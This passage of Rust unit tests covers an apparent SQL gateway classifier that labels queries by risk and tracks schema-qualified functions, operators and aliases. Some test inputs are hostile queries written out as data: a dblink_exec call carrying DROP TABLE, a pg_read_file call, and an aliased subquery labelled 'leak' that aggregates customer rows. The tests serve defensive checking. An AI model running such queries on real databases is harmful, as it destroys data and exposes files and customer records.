        );
        // Another schema's table of that name, or reading pg_settings, are not.
        assert_eq!(
            class("UPDATE app.pg_settings SET setting = 'x' WHERE name = 'y'"),
            Write
        );
        assert_eq!(
            class("UPDATE t SET v = s.setting FROM pg_settings s WHERE s.name = t.name"),
            Write
        );
        assert_eq!(class("SELECT * FROM pg_settings"), Read);
        assert_eq!(class("COPY pg_settings TO STDOUT"), Read);
    }

    #[test]
    fn calls_keep_the_schema_they_name() {
        let calls = |sql: &str| -> Vec<(String, String)> {
            classify(sql).unwrap().statements[0]
                .calls
                .iter()
                .cloned()
                .collect()
        };
        let pair = |s: &str, n: &str| (s.to_owned(), n.to_owned());
        assert_eq!(calls("SELECT app.random()"), [pair("app", "random")]);
        assert_eq!(calls("SELECT random(1)"), [pair("", "random")]);
        assert_eq!(
            calls("SELECT pg_catalog.random(), Random()"),
            [pair("", "random"), pair("pg_catalog", "random")]
        );
        assert_eq!(calls("SELECT db.app.F()"), [pair("app", "f")]);
        assert_eq!(calls("SELECT \"App\".f()"), [pair("App", "f")]);
        // The name alone is still reported, and name-based classes still apply.
        let c = classify("SELECT app.random()").unwrap();
        assert!(c.statements[0].functions.contains("random"));
        assert_eq!(
            class("SELECT public.dblink_exec('x', 'DROP TABLE t')"),
            Exec
        );
        assert_eq!(class("SELECT app.pg_read_file('x')"), Admin);
        // Raising one call leaves the other of the same name alone.
        let mut c = classify("SELECT app.random(); SELECT random()").unwrap();
        raise_call(&mut c, "app", "random", Exec);
        assert_eq!(c.class, Exec);
        assert_eq!(c.statements[0].class, Exec);
        assert_eq!(c.statements[1].class, Read);
        assert!(
            c.statements[0]
                .flags
                .contains(&Flag::Function("app.random".into()))
        );
    }

    #[test]
    fn operators_named_or_implied_are_reported() {
        let ops = |sql: &str| -> Vec<(String, String)> {
            classify(sql)
                .unwrap()
                .statements
                .iter()
                .flat_map(|s| s.operators.iter().cloned())
                .collect()
        };
        let op = |s: &str, o: &str| (s.to_owned(), o.to_owned());
        assert_eq!(ops("SELECT * FROM t WHERE a = 1"), [op("", "=")]);
        assert_eq!(
            ops("SELECT a OPERATOR(public.===) b FROM t"),
            [op("public", "===")]
        );
        assert_eq!(
            ops("SELECT a OPERATOR(pg_catalog.+) 1"),
            [op("pg_catalog", "+")]
        );
        assert_eq!(ops("SELECT * FROM t ORDER BY a USING ~<~"), [op("", "~<~")]);
        assert_eq!(
            ops("SELECT array_agg(a ORDER BY a USING >) FROM t"),
            [op("", ">")]
        );
        assert_eq!(
            ops("SELECT 1 FROM t WHERE a BETWEEN 1 AND 2"),
            [op("", "<"), op("", "<="), op("", ">"), op("", ">=")]
        );
        for sql in [
            "SELECT 1 FROM t WHERE a IN (SELECT b FROM u)",
            "SELECT 1 FROM t WHERE a IN (1, 2)",
            "SELECT 1 FROM t JOIN u USING (id)",
            "SELECT 1 FROM t NATURAL JOIN u",
            "SELECT CASE a WHEN 1 THEN 2 END FROM t",
            "SELECT 1 FROM t WHERE a = ANY (SELECT b FROM u)",
            "SELECT 1 FROM t WHERE a IS DISTINCT FROM b",
            "SELECT NULLIF(a, b) FROM t",
        ] {
            assert_eq!(ops(sql), [op("", "=")], "{sql}");
        }
        assert_eq!(ops("SELECT 1 FROM t WHERE a LIKE 'x%'"), [op("", "~~")]);
        assert_eq!(ops("SELECT 1 FROM t WHERE a @@ b"), [op("", "@@")]);
        assert!(ops("SELECT a FROM t ORDER BY a").is_empty());
        // What needs the catalog: functions, attribute notation, operators.
        let needs = |sql: &str| classify(sql).unwrap().needs_catalog_check();
        assert!(needs("SELECT 1 WHERE 1 = 1"));
        assert!(needs("SELECT lower('a')"));
        assert!(needs("SELECT t.a FROM t"));
        assert!(needs("SELECT * FROM t ORDER BY a USING <"));
        assert!(!needs("SELECT a FROM t"));
        assert!(!needs("BEGIN"));
        // Raising an operator.
        let mut c = classify("SELECT 1 FROM t WHERE a @@ b").unwrap();
        raise_operator(&mut c, "", "@@", Exec);
        assert_eq!(c.class, Exec);
        assert!(
            c.statements[0]
                .flags
                .contains(&Flag::Function("OPERATOR(@@)".into()))
        );
        let mut c = classify("SELECT a OPERATOR(app.@@) b FROM t").unwrap();
        raise_operator(&mut c, "app", "@@", Exec);
        assert!(
            c.statements[0]
                .flags
                .contains(&Flag::Function("OPERATOR(app.@@)".into()))
        );
    }

    #[test]
    fn an_alias_reused_in_another_scope_names_every_relation() {
        let c = classify(
            "SELECT (SELECT json_agg(state) FROM customers AS state) AS leak, \
             (SELECT 1 FROM orders AS state LIMIT 1) AS decoy",
        )
        .unwrap();
        let st = &c.statements[0];
        assert_eq!(
            st.aliases.get("state"),
            Some(&["customers".to_owned(), "orders".to_owned()][..])
        );
        // The same relation twice under one alias is named once.
        let c = classify("SELECT 1 FROM t AS x WHERE EXISTS (SELECT 1 FROM t AS x)").unwrap();
        assert_eq!(
            c.statements[0].aliases.get("x"),
            Some(&["t".to_owned()][..])
        );
        // Rewriting the names in place (as the gateway does when it resolves them).
        let mut aliases = st.aliases.clone();
        for r in aliases.values_mut() {
            *r = format!("public.{r}");
        }
        assert_eq!(
            aliases.get("state"),
            Some(&["public.customers".to_owned(), "public.orders".to_owned()][..])
        );
        aliases.entry("state".into()).or_insert_with(|| "x".into());
        aliases
            .entry("orders".into())
            .or_insert_with(|| "public.orders".into());
        assert_eq!(aliases.get("state").map(<[String]>::len), Some(2));
        assert_eq!(
            aliases.get("orders"),
            Some(&["public.orders".to_owned()][..])
        );
    }

    #[test]
    fn relation_names_split_into_schema_and_table() {
        for (schema, table) in [("", "t"), ("public", "t"), ("a.b", "c\"d"), ("", "x.y")] {
            let name = relation_name(schema, table);
            assert_eq!(
                relation_parts(&name),
                (schema.to_owned(), table.to_owned()),
                "{name}"
            );
        }
    }
}
